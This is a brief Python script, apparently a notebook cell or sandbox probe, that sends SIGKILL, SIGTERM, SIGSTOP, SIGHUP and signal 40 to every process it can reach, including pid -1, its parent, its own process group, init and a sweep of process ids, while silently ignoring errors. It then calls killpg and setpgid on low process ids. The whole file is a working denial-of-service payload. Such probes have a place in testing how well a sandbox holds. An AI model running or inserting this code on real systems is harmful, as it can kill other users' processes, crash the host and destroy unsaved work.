"""Sends every signal to its parents, to its group and to all processes that it can name."""

# %%
import os
import signal

for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGHUP, 40):
    for pid in (-1, 0, os.getppid(), -os.getpid(), 1, *range(2, 33_000, 7)):
        try:
            os.kill(pid, number)
        except OSError:
            pass
for function in (os.killpg, os.setpgid, os.getsid):
    for pid in (0, 1, 2):
        try:
            function(pid, 9) if function is not os.getsid else function(pid)
        except OSError:
            pass
